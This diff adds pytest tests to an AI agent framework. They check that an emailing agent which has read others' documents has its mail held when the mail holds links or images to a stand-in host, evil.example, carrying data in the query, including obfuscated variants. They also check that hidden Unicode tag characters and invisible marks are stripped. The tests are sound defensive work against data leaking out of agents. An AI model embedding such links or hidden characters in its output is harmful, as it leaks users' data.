@@ -33,6 +33,14 @@ email: {to: [ann@x.org, y.org]%s}
 ---
 Write to Ann.
 """
+READING = """---
+type: org
+actions: [read_document, send_email, write_file, read_file]
+sources: [notes]
+email: {to: [ann@x.org]}
+---
+The handbook is https://x.org/handbook.
+"""
 REPORT = turn(call("report", summary="Done."))
 AT = datetime(2026, 11, 20, 9, tzinfo=UTC)
 
@@ -363,6 +371,25 @@ def test_killed_around_the_act_it_comes_once_or_is_uncertain(
     assert len(box.taken) == taken
 
 
+def test_killed_between_reading_and_writing_it_remembers_what_it_has_read(box: Postbox) -> None:
+    agent = READING.replace("[ann@x.org]", "[x.org]")
+    with temporary_workspace({"agents/post.md": agent, "notes/a.md": "Hello."}) as made:
+        made.write("lamplighter.toml", f'{settings_of(box)}\n[sources.notes]\npath = "notes"\n')
+        assert lamplighter(made, "source", "sync").returncode == 0
+        reading = turn(call("read_document", id="notes:a.md"))
+        order = Order(
+            str(made.path),
+            ("post",),
+            made.script([reading, send(), REPORT]),
+            ("before the intent", 1),
+        )
+        assert bear(order) == -signal.SIGKILL
+        assert list_entries(made.engine) == []
+        assert go_on(made).outcome == "reported"
+        assert (only(made).state, box.taken) == ("held", [])
+        assert "has read what others wrote (notes:a.md)" in only(made).reason
+
+
 # --- By a provider ---
 
 
@@ -529,3 +556,49 @@ def test_the_account_is_tested_by_a_person(killed: Workspace, box: Postbox) -> N
     assert PASSWORD not in done.stdout + done.stderr
     nobody = lamplighter(killed, "email", "test", "nobody")
     assert (nobody.returncode, len(box.taken)) == (2, 1)
+
+
+# --- Links ---
+
+
+@pytest.mark.parametrize(
+    ("body", "state"),
+    [
+        ("The [lamp](https://x.org/lamp), and the book: <https://x.org/handbook>.", "sent"),
+        ("No address at all, but mailto:eve@evil.example", "sent"),
+        ("[x](https://evil.example/?d=7)", "held"),
+        ("![x](https://evil.example/?d=7)", "held"),
+        ("[x](https&#58;//evil.example/?d=7)", "held"),
+        ("[x](//evil.example/?d=7)", "held"),
+        ("[x]: https://evil.example/?d=7\n\n[x]", "held"),
+        ("https://x.org/lamp?d=7", "held"),
+    ],
+)
+def test_what_an_address_says_was_read_or_waits(box: Postbox, body: str, state: str) -> None:
+    files = {"agents/post.md": READING, "notes/a.md": "See https://x.org/lamp"}
+    sources = {"notes": {"path": "notes"}}
+    with temporary_workspace(files, email=box.account(), sources=sources) as workspace:
+        workspace.sync()
+        reading = turn(call("read_document", id="notes:a.md"))
+        kept = turn(call("write_file", path="a.txt", content=body), call("read_file", path="a.txt"))
+        run = workspace.run("post", [reading, kept, send(body=body), REPORT])
+        assert (run.outcome, only(workspace).state) == ("reported", state)
+
+
+def test_what_is_attached_is_saved_and_not_shown_if_it_could_load_something(box: Postbox) -> None:
+    names = ("page.html", "drawing.svg", "mail.eml", "table.csv")
+    files = [call("write_file", path=name, content="x") for name in names]
+    delivered = [call("deliver_file", path=name) for name in names]
+    with with_account(box.account()) as workspace:
+        workspace.run("post", [turn(*files), turn(*delivered), send(attachments=[*names]), REPORT])
+    types = [each.get_content_type() for each in box.messages[0].iter_attachments()]
+    assert types == [*["application/octet-stream"] * 3, "text/csv"]
+
+
+def test_no_character_that_nobody_sees_goes_out(workspace: Workspace, box: Postbox) -> None:
+    tagged = "".join(chr(0xE0000 + ord(c)) for c in "SECRET")
+    workspace.run("post", [send(subject=f"a{tagged}b", body=f"c\u202ed\u200b{tagged}"), REPORT])
+    [message] = box.messages
+    text = message.get_body(("plain",))
+    assert text is not None
+    assert (message["Subject"], text.get_content()) == ("ab", "cd\n")
